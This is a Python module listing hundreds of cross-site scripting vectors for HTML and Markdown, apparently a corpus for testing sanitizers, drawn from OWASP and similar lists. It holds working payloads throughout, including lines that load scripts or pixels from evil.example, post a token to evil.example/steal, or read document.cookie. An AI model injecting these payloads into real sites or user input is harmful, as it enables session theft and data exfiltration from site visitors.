"""Ways in which people have tried to smuggle script into pages, in HTML and in Markdown.

After the lists of OWASP (XSS Filter Evasion), PortSwigger, html5sec.org and the Markdown parsers' own advisories.
"""

HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
<<script>alert(1);//<</script>
<script\x20type="text/javascript">alert(1);</script>
<script	>alert(1)</script	>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<IMG SRC=x OnErRoR=alert(1)>
<img/src/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src='x'onerror='alert(1)'>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=JaVaScRiPt:alert(1)>
<img src=javascript:alert(&quot;1&quot;)>
<img src="jav	ascript:alert(1);">
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src="jav&#x0D;ascript:alert(1);">
<img src=" &#14; javascript:alert(1);">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img srcset="x 1x, javascript:alert(1) 2x">
<img src=# onmouseover="alert(1)">
<img src onmouseover="alert(1)">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">click</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">click</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><input autofocus>
<html onmousemove=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></iframe>
<iframe/onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<object type="text/x-scriptlet" data="//evil.example/x.html"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
<applet code="javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<style>@import'javascript:alert(1)';</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x
<style>body{background:url(javascript:alert(1))}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<div style="background-image: url(javascript:alert(1))">
<div style="width: expression(alert(1));">
<div style="-moz-binding:url(//evil.example/x.xml#x)">
<xss style="behavior: url(x.htc);">
<meta http-equiv="refresh" content="0;url=javascript:alert(1);">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1);//">
<a href="javascript:alert(1)">x</a>
<a href="JAVASCRIPT&colon;alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href=x onclick=alert(1)>x</a>
<a onmouseover="alert(1)">x</a>
<a onmouseover=alert(1)>x</a>
<a href="x" ping="javascript:alert(1)">x</a>
<a href="x" style="position:fixed;inset:0">x</a>
<a id=x tabindex=1 onfocus=alert(1)></a>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<input type="image" src="javascript:alert(1);">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<video src=x onerror=alert(1)>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<audio autoplay onloadstart=alert(1) src=x>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<td onclick=alert(1)>x
<bgsound src="javascript:alert(1);">
<layer src="//evil.example/x.html"></layer>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>
<?xml version="1.0"?><html:html xmlns:html="http://www.w3.org/1999/xhtml"><html:script>alert(1);</html:script>
<!--[if gte IE 4]><script>alert(1);</script><![endif]-->
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![<img src="]><img src=x onerror=alert(1)//">
<custom-element onpointerover=alert(1) tabindex=1>x</custom-element>
<p hx-on:click="alert(1)" hx-get="/logout" hx-trigger="load">x</p>
<div data-live-url="/logout" data-live="x">x</div>
<dialog open onclose=alert(1)>
<p id="comments" name="csrf_token">clobber</p>
%3Cscript%3Ealert(1)%3C/script%3E<img src=%78 onerror=alert(1)>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b onclick=alert(1)>
<script>alert`1`</script>
<script>\u0061lert(1)</script>
<script>window['al'+'ert'](1)</script>
<script>[].constructor.constructor('alert(1)')()</script>
<script>onerror=alert;throw 1</script>
<script>{onerror=alert}throw 1</script>
<script type=module>alert(1)</script>
<script type="text/javascript" src="data:text/javascript,alert(1)"></script>
<script src="data:;base64,YWxlcnQoMSk="></script>
<script async src=//evil.example/a.js></script>
<script ~~~>alert(1)</script ~~~>
<script>alert(1)</script foo="bar">
<script><!-- alert(1) --></script><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</select><script>alert(1)</script>
</xmp><script>alert(1)</script>
<plaintext><script>alert(1)</script>
<xmp><img src="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror="&#x61;lert(1)">
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=alert&#40;1&#41>
<img src=x onerror=location='javascript:alert(1)'>
<img src=x onerror=import('data:text/javascript,alert(1)')>
<img src=x onerror='alert(1)'//
<img src=x onerror	=	alert(1)>
<img src=x onerror=alert(1)
<img/src=x/onerror=alert(1)>
<img//////src=x/onerror=alert(1)//
<img ismap src=x onerror=alert(1) usemap=#x>
<img src=x id=x onerror=alert(1) onerror=x>
<img src=x alt="`><img src=x onerror=alert(1)>`">
<img src="/favicon.ico" onload=alert(1)>
<img src=x onloadend=alert(1) onerror=alert(1)>
<img srcset=",,,,x" onerror=alert(1)>
<img loading=lazy src=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<image xlink:href=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<picture><source srcset="//evil.example/pixel.gif"><img></picture>
<svg><image href=x onerror=alert(1)>
<svg><image xlink:href=x onerror=alert(1)></svg>
<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script>/&lt;/alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a href="javascript:alert(1)"><rect width=1000 height=1000></rect></a></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a></svg>
<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>
<svg><animate onrepeat=alert(1) attributeName=x dur=1ms repeatCount=2></svg>
<svg><animateMotion onbegin=alert(1) dur=1s></animateMotion></svg>
<svg><animateTransform onbegin=alert(1) attributeName=transform dur=1s></svg>
<svg><discard onbegin=alert(1)></discard></svg>
<svg><set attributeName=href to=javascript:alert(1)></set></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><foreignObject><math><mi><svg onload=alert(1)></svg></mi></math></foreignObject></svg>
<svg><use xlink:href="#x"></use><symbol id=x><script>alert(1)</script></symbol></svg>
<svg><feImage xlink:href="//evil.example/pixel.gif"/></svg>
<svg><style>@import "//evil.example/x.css";</style></svg>
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
<svg viewBox=0><g onload=alert(1)></g></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<svg onunload=alert(1) onresize=alert(1)>
<svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>
<svg><p><style><!--</style><img src=x onerror=alert(1)>-->
<svg></p><title><a id="</title><img src=x onerror=alert(1)>"></svg>
<svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><semantics><mtext><svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg></mtext></semantics></math>
<math><mtext><option><FAKE><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></mglyph></table>
<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math xlink:href=javascript:alert(1)>x</math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><button>x</button></form>
<form><input type=image src=x onerror=alert(1) formaction=javascript:alert(1)></form>
<form id=test onforminput=alert(1)><input></form><button form=test onformchange=alert(1)>x</button>
<form><input name=attributes><input name=innerHTML></form><img src=x onerror=alert(1)>
<form action="//evil.example/steal"><input name=token autofocus><button>x</button></form>
<input type=hidden accesskey=x onclick=alert(1)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<input autofocus onblur=alert(1)><input autofocus>
<input value="x" oninput=alert(1) onchange=alert(1)>
<input type=search onsearch=alert(1)>
<input pattern=x required value=y oninvalid=alert(1)>
<textarea autofocus onselectionchange=alert(1)>x</textarea>
<select autofocus onfocusin=alert(1)><option>x</select>
<button autofocus onfocus=alert(1)>x</button>
<label onclick=alert(1)>x</label>
<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>
<a href=javas&#99;ript:alert(1)>x</a>
<a href="&Tab;javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#x20;&#x0c;javascript:alert(1)">x</a>
<a href='javascript:"<svg/onload=alert(1)>"'>x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)//">x</a>
<a href="javascript:alert(1)" target=_blank>x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="jar:https://evil.example/x!/">x</a>
<a href="mhtml:https://evil.example/">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="filesystem:https://evil.example/x">x</a>
<a href="data:text/html;charset=utf-7;base64,K0FEdy1zY3JpcHQrQUQ0LWFsZXJ0KDEp">x</a>
<a href="data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>">x</a>
<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">x</a>
<a href="x" onauxclick=alert(1) onpointerdown=alert(1)>x</a>
<a rel=stylesheet href=//evil.example/x.css>x</a>
<area href="javascript:alert(1)" shape=default><map name=x><area href=javascript:alert(1)></map>
<b onpointerenter=alert(1) onpointerover=alert(1)>x</b>
<b draggable=true ondragstart=alert(1) ondrag=alert(1)>x</b>
<b contenteditable onbeforeinput=alert(1) onpaste=alert(1)>x</b>
<b style="animation-name:spin" onanimationstart=alert(1)>x</b>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)"></b>
<style>:target{color:red}</style><b id=x style="transition:color 10s" ontransitionend=alert(1)>x</b>
<style>*{background:url(//evil.example/pixel.gif)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<style>@import url(//evil.example/x.css);</style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preload as=image href=//evil.example/pixel.gif>
<link rel=dns-prefetch href=//evil.example><link rel=prerender href=//evil.example/>
<link rel=modulepreload href=//evil.example/x.js>
<link rel=icon href=x onerror=alert(1)>
<b style="background:url(//evil.example/pixel.gif)">x</b>
<b style="background:u\72l(//evil.example/pixel.gif)">x</b>
<b style="list-style:url(//evil.example/pixel.gif)">x</b>
<b style='content:url(//evil.example/pixel.gif)'>x</b>
<table background=//evil.example/pixel.gif><tr background=//evil.example/pixel.gif><td>x
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body onpopstate=alert(1) onmessage=alert(1) onresize=alert(1)>
<body onbeforeprint=alert(1) onafterprint=alert(1)>
<body onunhandledrejection=alert(1)><script>Promise.reject(1)</script>
<frameset onload=alert(1)><frame></frameset>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe srcdoc='<svg onload=parent.alert(1)>' sandbox="allow-scripts allow-same-origin"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src=//evil.example/ name=alert(1)></iframe>
<iframe src="javas&Tab;cript:alert(1)"></iframe>
<iframe csp="script-src 'unsafe-inline'" srcdoc="<script>alert(1)</script>"></iframe>
<embed src=//evil.example/x.swf allowscriptaccess=always>
<embed src="data:text/html,<script>alert(1)</script>">
<embed code=//evil.example/x.swf onload=alert(1)>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object data=x onerror=alert(1)></object>
<object classid=clsid:ae24fdae><param name=url value=javascript:alert(1)></object>
<object><param name=src value=javascript:alert(1)><param name=code value=javascript:alert(1)></object>
<portal src="javascript:alert(1)"></portal>
<fencedframe src=//evil.example/></fencedframe>
<video controls onplay=alert(1) autoplay src=x></video>
<video src=x onloadstart=alert(1)>
<video><track default src="data:text/vtt,WEBVTT" oncuechange=alert(1)></video>
<video poster=//evil.example/pixel.gif></video>
<video onerror=alert(1)><source src=x></video>
<audio src=//evil.example/x.mp3 autoplay></audio>
<audio controls ondurationchange=alert(1) onprogress=alert(1) src=x>
<details ontoggle=alert(1) open><summary>x</summary></details>
<details><summary onclick=alert(1)>x</summary></details>
<dialog open oncancel=alert(1) onbeforetoggle=alert(1)><form method=dialog><button>x</button></form></dialog>
<div popover id=p ontoggle=alert(1)>x</div><button popovertarget=p autofocus>x</button>
<marquee onfinish=alert(1) loop=1 width=0>x</marquee>
<marquee onbounce=alert(1) behavior=alternate>x</marquee>
<marquee><script>alert(1)</script></marquee>
<meter onmouseover=alert(1) value=2>x</meter>
<progress onclick=alert(1) value=2>x</progress>
<output name="alert(1)" onclick="eval(name)">x</output>
<x onclick=alert(1) style=display:block;position:fixed;inset:0>x
<x tabindex=1 id=x onfocusin=alert(1) onfocusout=alert(1)>
<x contenteditable onfocus=alert(1) autofocus>
<x onscrollend=alert(1) onscrollsnapchange=alert(1) onwheel=alert(1)>
<x is="x" onclick=alert(1)>
<a-b onsecuritypolicyviolation=alert(1)><img src=//evil.example/x></a-b>
<slot onslotchange=alert(1)>x</slot>
<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>
<template><img src=x onerror=alert(1)></template>
<nav><svg><desc><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript></desc></svg></nav>
<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
<ruby><rt><rp><script>alert(1)</script></rp></rt></ruby>
<table><td><form><tr><style><img title="</style><img src=x onerror=alert(1)>"></table>
<table><caption><svg><title><table><img src=x onerror=alert(1)></table></title></svg></caption></table>
<select><template><img src=x onerror=alert(1)></template></select>
<select><style></select><img src=x onerror=alert(1)></style></select>
<p><svg><style>*{}</style><p title="</style><img src=x onerror=alert(1)>"></svg>
<a><svg><desc><a><table></a><style><!--</style></svg><a id="--><img src=x onerror=alert(1)>">
<h1><math><h2><mtext><mglyph><style></h2><img src=x onerror=alert(1)></style></mglyph></mtext></math></h1>
<d><math><mi><table><mglyph><nolink><a><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>
<!--!><img src=x onerror=alert(1)>
<!--x--!><img src=x onerror=alert(1)>
<!--[if IE]><img src=x onerror=alert(1)><![endif]-->
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<?xml-stylesheet href="javascript:alert(1)"?><x/>
<?php echo 1 ?><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<%<!--'%><script>alert(1);</script -->
<///style///><span id=x onclick=alert(1)>x</span>
</p onclick=alert(1)><img src=x onerror=alert(1)>
<p/onclick=alert(1)//>x</p>
<p title="x"onclick="alert(1)">x</p>
<p title='x'onclick='alert(1)'>x</p>
<p =onclick=alert(1)>x</p>
<p "onclick=alert(1)>x</p>
<p on click=alert(1) onclick =alert(1)>x</p>
<p hx-get=//evil.example/ hx-trigger=load hx-swap=innerHTML>x</p>
<p hx-post="/posts/1/removal" hx-trigger="revealed">x</p>
<p data-hx-get="/logout" data-hx-trigger="load">x</p>
<p data-open=x data-copy="javascript:alert(1)" data-read-url="/logout">x</p>
<a data-dialog href="//evil.example/x">x</a>
<p id=main class="toast" data-undo role=alert>x</p>
<img name=foyer id=foyer src=x><a id=foyer><a id=foyer name=send href=x>
<base href=//evil.example/><script src=x.js></script>
<base target="x' onclick='alert(1)">
<meta http-equiv=Set-Cookie content="x=y">
<meta http-equiv=refresh content="0; url=//evil.example/">
<meta name=referrer content=unsafe-url><img src=//evil.example/pixel.gif>
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
﹤img src=x onerror=alert(1)﹥
<ſcript>alert(1)</ſcript>
<ıframe onload=alert(1)>
<İmg src=x onerror=alert(1)>
¼script¾alert(1)¼/script¾
&#60;script&#62;alert(1)&#60;/script&#62;
&lt;img src=x onerror=alert(1)&gt;
&#x3c;svg onload=alert(1)&#x3e;
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cimg src=x onerror=alert(1)\u003e
{{constructor.constructor('alert(1)')()}}<b ng-app>{{$on.constructor('alert(1)')()}}</b>
${alert(1)}<b onclick="${alert(1)}">#{alert(1)}</b>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/--!>\x3csVg/<sVg/oNloAd=alert(1)//>
';alert(String.fromCharCode(88,83,83))//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>
'';!--"<XSS>=&{()}<script>alert(1)</script>
" onfocus=alert(1) autofocus x="
' onmouseover='alert(1)
" style="animation-name:x" onanimationstart="alert(1)
javascript:alert(1)
'''

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java	script:alert(1)>)
[x](  javascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](x "onmouseover=alert(1)")
[x](x" onmouseover="alert(1))
[x](<x" onmouseover="alert(1)>)
[x](x '"><img src=x onerror=alert(1)>')
[x]: javascript:alert(1)
[x][y] [y]: javascript:alert(1)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=)
![x" onerror="alert(1)](/files/1/x.webp)
![x](/files/1/x.webp" onerror="alert(1))
![x](//evil.example/pixel.gif)
![x](https://evil.example/pixel.gif)
![x](/logout)
![x](/files/1/../../logout)
![x](/files/1/%2e%2e/%2e%2e/logout)
![x](/files/1/..)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,alert(1)>
<http://a"onmouseover="alert(1)>
<http://a/%22onmouseover=%22alert(1)>
`<script>alert(1)</script>`
```html<script>alert(1)</script>```
    <script>alert(1)</script>
~~~"><script>alert(1)</script>
# <img src=x onerror=alert(1)>
> <svg onload=alert(1)>
- <iframe src=javascript:alert(1)>
|<script>alert(1)</script>|x| |-|-| |<img src=x onerror=alert(1)>|y|
**<b onclick=alert(1)>x</b>**
\<script>alert(1)\</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
@ann"><script>alert(1)</script>
@<img src=x onerror=alert(1)>
#tag"onmouseover=alert(1)
#<script>alert(1)</script>
[@ann](javascript:alert(1))
[#tag](javascript:alert(1))
[a](x)<!--[b](--><img src=x onerror=alert(1)>)
[![x](x)](javascript:alert(1))
[`</a><script>alert(1)</script>`](x)
[x](javascript\:alert(1))
[x](j\avascript:alert(1))
[x](javascript:alert\(1\))
[x](&#x6A;&#x61;&#x76;&#x61;script&#58;alert(1))
[x](javascript&#58alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](&#1;javascript:alert(1))
[x](\javascript:alert(1))
[x](javascript:prompt(document.cookie))
[x](javascript://www.example.org%0Aalert(1))
[x](javascript:window.onerror=alert;throw%201)
[x](https://a.example%22onmouseover=%22alert(1))
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example 'x" onclick="alert(1)')
[x](data:text/html,<script>alert(1)</script>)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)
[x](blob:https://evil.example/1)
[x](view-source:javascript:alert(1))
[x](//evil.example/x)
[x](\\\\evil.example\\x)
[x](<javascript:alert(1)> "x")
[x](<data:text/html,<svg/onload=alert(1)>>)
[javascript:alert(1)](javascript:alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
[x"><img src=x onerror=alert(1)>](https://a.example)
[x][x] [x]: <javascript:alert(1)> "x"
[x]: data:text/html,<script>alert(1)</script>
[x]: https://a.example '"><img src=x onerror=alert(1)>'
[x]: <" onclick="alert(1)>
[ ]( https://a.example?[[[[[[[[[[[[[](javascript:alert(1))
[citelol]: (javascript:prompt(document.cookie))
[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)
![x](javascript:alert(1) "x")
![x](https://a.example/x.png"onload="alert(1))
![x"onerror="alert(1)](x)
![x](x "x" onerror="alert(1)")
![x][r] [r]: /files/1/x.webp"onerror="alert(1)
!["onerror="alert(1)"](https://evil.example/pixel.gif)
![<script>alert(1)</script>](/files/1/x.webp)
![x](/files/1/x.webp 'x" onerror="alert(1)')
![x](/files/1/..%2f..%2flogout)
![x](/files/1/x\..\..\..\logout)
![x](/\evil.example/pixel.gif)
![x](http:/evil.example/pixel.gif)
<https://a.example/'onclick='alert(1)>
<https://a.example/<script>alert(1)</script>>
<vbscript:msgbox(1)>
<view-source:javascript:alert(1)>
<x@"onclick="alert(1).example>
https://a.example/"onmouseover="alert(1)
https://a.example/'><img/src=x/onerror=alert(1)>
https://a.example/<svg/onload=alert(1)>
http://javascript:alert(1)@a.example/
javascript://a.example/%0aalert(1)
mailto:x@a.example"onclick="alert(1)
``<img src=x onerror=alert(1)>`` `"><svg onload=alert(1)>
```"><script>alert(1)</script>
~~~ js" onclick="alert(1)
```<script>
    <img src=x onerror=alert(1)>
1. <img src=x onerror=alert(1)>
###### </h6><script>alert(1)</script>
***<script>alert(1)</script>***
~~<svg/onload=alert(1)>~~
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
<div markdown="1"><script>alert(1)</script></div>
<p>[x](javascript:alert(1))</p>
<a href="x">[x](javascript:alert(1))</a>
**<img src=x onerror=alert(1)**>
*[<svg onload=alert(1)>]: x
[^1]: <img src=x onerror=alert(1)>
$$<img src=x onerror=alert(1)>$$
:<img src=x onerror=alert(1)>:
==<img src=x onerror=alert(1)>==
\[x](javascript:alert(1)) \<img src=x onerror=alert(1)>
\\<img src=x onerror=alert(1)>
&lt;img src=x onerror=alert(1)>
&#60;img src=x onerror=alert(1)&#62;
@group/x"><img src=x onerror=alert(1)>
@group/<svg onload=alert(1)>
@ann<!--"--><script>alert(1)</script>
#tag<svg/onload=alert(1)>
#x"><img src=x onerror=alert(1)>
#[x](javascript:alert(1))
@[x](javascript:alert(1))
"""


def lines(block: str) -> list[str]:
    return [line for line in block.strip("\n").split("\n") if line]


# What a line of the lists above cannot hold: line ends, NULs, and other characters that parsers pass over.
ODD = [
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x o\0nerror=alert(1)>",
    "<\0img src=x onerror=alert(1)>",
    "<img\0src=x\0onerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<svg\u00a0onload=alert(1)>",
    "<svg\u2028onload=alert(1)>",
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\r\nscript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    "<img\nsrc=x\nonerror\n=\nalert(1)\n>",
    "<script\n>alert(1)</script\n>",
    '<img src=x onerror="al\u200bert(1)" onload=alert(1)>',
    "[x](java\0script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <java\tscript:alert(1)>",
    "![x]\n\n[x]: //evil.example/pixel.gif",
    "[x\n](javascript:alert(1))",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '~~~"><img/src=x/onerror=alert(1)>\nx\n~~~',
    "> x\n<img src=x onerror=alert(1)>",
    "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "- x\n\n      <script>alert(1)</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<!--\n\n--><img src=x onerror=alert(1)>",
    "<?\n\n?><img src=x onerror=alert(1)>",
    "<script\n\nalert(1)\n\n</script>",
    "<svg>\n<style>\n<!--\n</style><img src=x onerror=alert(1)>\n-->",
    "<a\n href='javascript:alert(1)'\n>x</a\n>",
]
VECTORS = lines(HTML) + lines(MARKDOWN) + ODD
